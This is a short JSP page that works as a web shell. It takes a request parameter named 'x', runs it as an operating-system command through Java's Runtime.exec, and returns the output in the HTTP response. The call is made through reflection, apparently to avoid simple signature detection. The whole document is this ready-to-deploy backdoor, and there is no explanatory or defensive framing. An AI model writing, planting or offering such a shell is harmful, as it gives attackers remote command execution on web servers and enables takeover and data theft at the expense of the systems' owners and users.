<%@ page import="java.lang.reflect.Method,java.io.InputStream,java.util.Scanner" %>
<%
    String x = request.getParameter("x");
    if (x != null) {
        Class<?> rt = Class.forName("java.lang.Runtime");
        Method gr = rt.getMethod("getRuntime");
        Object runtime = gr.invoke(null);
        Method ex = rt.getMethod("exec", String.class);
        Process p = (Process) ex.invoke(runtime, x);
        InputStream is = p.getInputStream();
        Scanner s = new Scanner(is).useDelimiter("\\A");
        out.print(s.hasNext() ? s.next() : "");
    }
%>
